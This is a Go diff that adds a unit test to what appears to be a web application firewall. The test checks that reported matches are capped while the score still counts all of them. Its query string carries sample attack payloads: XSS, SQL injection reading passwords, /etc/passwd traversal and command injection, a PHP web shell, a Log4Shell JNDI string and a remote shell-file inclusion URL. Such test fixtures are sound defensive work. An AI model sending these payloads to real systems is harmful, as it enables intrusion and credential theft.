@@ -324,3 +324,22 @@ func TestTruncatedMultipart(t *testing.T) {
 		t.Fatalf("broken multipart body: %+v", res)
 	}
 }
+
+func TestMatchesAreBounded(t *testing.T) {
+	fw := firewall(t, 4)
+	q := "a=" + "%3Cscript%3Ealert(1)%3C%2Fscript%3E" + "&b=1%27%20UNION%20SELECT%20password%20FROM%20users--" +
+		"&c=../../../../etc/passwd&d=%3Bcat%20/etc/passwd&e=%3C%3Fphp%20system($_GET[c]);%20%3F%3E" +
+		"&f=${jndi:ldap://x/a}&g=java.lang.Runtime.getRuntime().exec(id)&h=http://203.0.113.9/shell.txt%3F" +
+		"&i=%3Csvg%20onload%3Dalert(1)%3E&j=1%20AND%20SLEEP(5)"
+	res := fw.Evaluate(get("/x.php?"+q), &Options{})
+	if len(res.Matches) != MaxMatches {
+		t.Fatalf("%d matches listed, want the bound %d (score %d)", len(res.Matches), MaxMatches, res.Score)
+	}
+	sum := 0
+	for _, m := range res.Matches {
+		sum += severityPoints[m.Severity]
+	}
+	if res.Score <= sum {
+		t.Errorf("score %d counts only the listed matches (%d)", res.Score, sum)
+	}
+}
